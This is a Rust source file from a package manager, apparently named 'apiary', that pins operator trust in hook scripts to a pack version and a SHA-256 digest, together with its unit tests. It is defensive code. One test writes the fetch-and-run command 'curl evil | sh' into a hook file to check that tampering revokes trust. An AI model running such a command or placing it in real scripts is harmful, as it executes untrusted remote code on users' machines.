//! The operator's trust decisions for hooks (spec §13, and DuDuClaw §4.4: hooks land quarantined).
//!
//! Installed hooks are never executable and never trusted. `apiary trust <pack-id>` shows each hook
//! file with its SHA-256 and, once confirmed, records trust for exactly that pack version and that
//! digest in `<root>/.apiary/trust.json`:
//! ```json
//! { "packs": { "com.example.pack": { "version": "1.2.0", "hooks": [
//!     { "path": "hooks/setup.sh", "sha256": "…", "kind": "script", "trusted_at": "2026-…Z" } ] } } }
//! ```
//! An upgrade (another version) or any change to a hook file (another digest) is untrusted again.
//! The runtime asks [`is_hook_trusted`] before running a script hook.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};

use super::install::{RootGuard, STATE_DIR, pack_dir_name};
use super::lock::{HookKind, InstallRecord, Lock};
use super::{DistError, Result};

pub const TRUST_FILE: &str = "trust.json";

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct TrustStore {
    #[serde(default)]
    pub packs: BTreeMap<String, PackTrust>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PackTrust {
    pub version: String,
    pub hooks: Vec<TrustedHook>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TrustedHook {
    pub path: String,
    pub sha256: String,
    pub kind: HookKind,
    pub trusted_at: String,
}

impl TrustStore {
    pub fn load(root: &Path) -> Result<TrustStore> {
        let path = root.join(STATE_DIR).join(TRUST_FILE);
        match std::fs::metadata(&path) {
            Ok(m) if m.len() > 16 * 1024 * 1024 => Err(DistError::new(
                "trust.invalid",
                format!("{} is too large", path.display()),
            )),
            Ok(_) => {
                // Not blocking on a FIFO put in its place, not reading more than the cap.
                let bytes = crate::safe_fs::read_regular(
                    &path,
                    crate::safe_fs::FinalLink::Follow,
                    16 * 1024 * 1024,
                )
                .map_err(|e| DistError::io("cannot read", &path, e))?;
                serde_json::from_slice(&bytes).map_err(|e| {
                    DistError::new(
                        "trust.invalid",
                        format!("{} is not a valid trust store: {e}", path.display()),
                    )
                })
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustStore::default()),
            Err(e) => Err(DistError::io("cannot read", &path, e)),
        }
    }

    fn save(&self, guard: &RootGuard) -> Result<()> {
        let path = guard.state.join(TRUST_FILE);
        let mut text = serde_json::to_string_pretty(self)
            .map_err(|e| DistError::new("trust.write", e.to_string()))?;
        text.push('\n');
        super::write_atomic(&path, &guard.state, text.as_bytes())
            .map_err(|e| DistError::io("cannot write", &path, e))
    }

    pub fn trusts(&self, pack_id: &str, version: &str, hook_path: &str, digest: &str) -> bool {
        self.packs.get(pack_id).is_some_and(|p| {
            p.version == version
                && p.hooks
                    .iter()
                    .any(|h| h.path == hook_path && h.sha256.eq_ignore_ascii_case(digest))
        })
    }
}

/// Whether the operator trusted the hook file `hook_path` (pack-relative, `/`-separated) with SHA-256
/// `digest` in version `version` of pack `pack_id` installed under `root`. Any doubt (no store, an
/// unreadable store, another version or digest) is `false`.
pub fn is_hook_trusted(
    root: &Path,
    pack_id: &str,
    version: &str,
    hook_path: &str,
    digest: &str,
) -> bool {
    TrustStore::load(root).is_ok_and(|s| s.trusts(pack_id, version, hook_path, digest))
}

/// Whether the hook `command` (as written in `hooks.json` or a persona's `hooks:`, e.g.
/// `./hooks/setup.sh --fast`) of the pack installed at `pack_dir` (`<root>/<pack-id>`) is trusted
/// right now: the installed version per `pack.lock`, and the file's current SHA-256, must be what
/// the operator trusted. The runtime calls this before running a script hook; `false` on any doubt
/// (not an installed pack, a path leaving the pack, an unreadable file or store).
pub fn hook_command_trusted(pack_dir: &Path, command: &str) -> bool {
    let Ok(pack_dir) = pack_dir.canonicalize() else {
        return false;
    };
    let (Some(root), Some(pack_id)) = (
        pack_dir.parent(),
        pack_dir.file_name().and_then(|n| n.to_str()),
    ) else {
        return false;
    };
    let Ok(lock) = Lock::load(root) else {
        return false;
    };
    let Some(entry) = lock.packs.get(pack_id) else {
        return false;
    };
    let token = command.split_whitespace().next().unwrap_or(command);
    let Ok(abs) = crate::pack::paths::resolve_inside(&pack_dir, token) else {
        return false;
    };
    let rel = crate::pack::paths::relative_to(&pack_dir, &abs)
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/");
    let Ok(digest) = super::sha256_file(&abs) else {
        return false;
    };
    is_hook_trusted(root, pack_id, &entry.version, &rel, &digest)
}

/// One hook of an installed pack with its trust state.
#[derive(Debug, Clone, Serialize)]
pub struct HookStatus {
    pub path: String,
    pub kind: HookKind,
    /// The digest recorded at install time.
    pub sha256: String,
    pub used_by: Vec<String>,
    pub commands: Vec<String>,
    /// The file on disk still has the recorded digest.
    pub intact: bool,
    pub trusted: bool,
}

/// The installed version of `pack_id` and the state of each of its hooks.
pub fn status(root: &Path, pack_id: &str) -> Result<(String, Vec<HookStatus>)> {
    pack_dir_name(pack_id)?;
    let lock = Lock::load(root)?;
    let entry = lock.packs.get(pack_id).ok_or_else(|| {
        DistError::new(
            "pack.not-installed",
            format!("{pack_id} is not installed in {}", root.display()),
        )
        .help("`apiary list` shows the installed packs")
    })?;
    let dir = root.join(pack_id);
    let record = InstallRecord::load(&dir)?.ok_or_else(|| {
        DistError::new(
            "trust.no-record",
            format!(
                "{} has no install record; reinstall the pack with apiary",
                dir.display()
            ),
        )
    })?;
    let store = TrustStore::load(root)?;
    let hooks = record
        .hooks
        .iter()
        .map(|h| {
            let safe = super::archive::check_entry_name(&h.path, &Default::default()).is_ok();
            let on_disk = safe
                .then(|| super::sha256_file(&dir.join(&h.path)).ok())
                .flatten();
            HookStatus {
                path: h.path.clone(),
                kind: h.kind,
                sha256: h.sha256.clone(),
                used_by: h.used_by.clone(),
                commands: h.commands.clone(),
                intact: on_disk.as_deref() == Some(h.sha256.as_str()),
                trusted: store.trusts(pack_id, &entry.version, &h.path, &h.sha256),
            }
        })
        .collect();
    Ok((entry.version.clone(), hooks))
}

/// Records trust for `hooks` (as returned by [`status`]) of `pack_id` at `version`. Refuses when a
/// hook file no longer matches its recorded digest.
pub fn trust(guard: &RootGuard, pack_id: &str, version: &str, hooks: &[HookStatus]) -> Result<()> {
    if let Some(h) = hooks.iter().find(|h| !h.intact) {
        return Err(DistError::new(
            "trust.drift",
            format!(
                "{} in {pack_id} no longer matches the digest recorded at install; refusing to trust it",
                h.path
            ),
        )
        .help("run `apiary verify` and reinstall the pack"));
    }
    let mut store = TrustStore::load(&guard.root)?;
    let now = super::now_rfc3339();
    store.packs.insert(
        pack_id.to_string(),
        PackTrust {
            version: version.to_string(),
            hooks: hooks
                .iter()
                .map(|h| TrustedHook {
                    path: h.path.clone(),
                    sha256: h.sha256.clone(),
                    kind: h.kind,
                    trusted_at: now.clone(),
                })
                .collect(),
        },
    );
    store.save(guard)
}

/// Drops every trust decision for `pack_id`; `true` when there was one.
pub fn forget(guard: &RootGuard, pack_id: &str) -> Result<bool> {
    let mut store = TrustStore::load(&guard.root)?;
    if store.packs.remove(pack_id).is_some() {
        store.save(guard)?;
        Ok(true)
    } else {
        Ok(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hook_template() -> HookStatus {
        HookStatus {
            path: "hooks/a.sh".into(),
            kind: HookKind::Script,
            sha256: "ab".repeat(32),
            used_by: vec!["pack:on_start".into()],
            commands: vec!["./hooks/a.sh".into()],
            intact: true,
            trusted: false,
        }
    }

    #[test]
    fn trust_is_for_one_version_and_digest() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", "aa"));
        let guard = RootGuard::acquire(root, true).unwrap().unwrap();
        let hook = hook_template();
        trust(&guard, "p", "1.0.0", std::slice::from_ref(&hook)).unwrap();
        let d = "ab".repeat(32);
        assert!(is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
        assert!(is_hook_trusted(
            root,
            "p",
            "1.0.0",
            "hooks/a.sh",
            &d.to_uppercase()
        ));
        assert!(!is_hook_trusted(root, "p", "1.0.1", "hooks/a.sh", &d));
        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/b.sh", &d));
        assert!(!is_hook_trusted(
            root,
            "p",
            "1.0.0",
            "hooks/a.sh",
            &"cd".repeat(32)
        ));
        assert!(!is_hook_trusted(root, "q", "1.0.0", "hooks/a.sh", &d));
        let drifted = HookStatus {
            intact: false,
            ..hook
        };
        assert!(trust(&guard, "p", "1.0.0", &[drifted]).is_err());
        // The runtime's view: the installed pack per pack.lock and the file's current digest.
        let pack = root.join("p");
        std::fs::create_dir_all(pack.join("hooks")).unwrap();
        std::fs::write(pack.join("hooks/a.sh"), "echo hi\n").unwrap();
        let real = super::super::sha256_file(&pack.join("hooks/a.sh")).unwrap();
        let hook = HookStatus {
            sha256: real,
            ..hook_template()
        };
        trust(&guard, "p", "1.0.0", &[hook]).unwrap();
        assert!(
            !hook_command_trusted(&pack, "./hooks/a.sh"),
            "not in pack.lock"
        );
        let mut lock = Lock::default();
        lock.packs.insert(
            "p".into(),
            super::super::lock::LockEntry {
                source: "x".into(),
                sha256: None,
                resolved: None,
                version: "1.0.0".into(),
                installed_at: "2026-01-01T00:00:00Z".into(),
                extra: Default::default(),
            },
        );
        lock.save(root, &guard.state).unwrap();
        assert!(hook_command_trusted(&pack, "./hooks/a.sh --flag"));
        assert!(!hook_command_trusted(&pack, "../p/hooks/a.sh"));
        std::fs::write(pack.join("hooks/a.sh"), "curl evil | sh\n").unwrap();
        assert!(!hook_command_trusted(&pack, "./hooks/a.sh"), "changed file");
        assert!(forget(&guard, "p").unwrap());
        assert!(!is_hook_trusted(root, "p", "1.0.0", "hooks/a.sh", &d));
    }
}
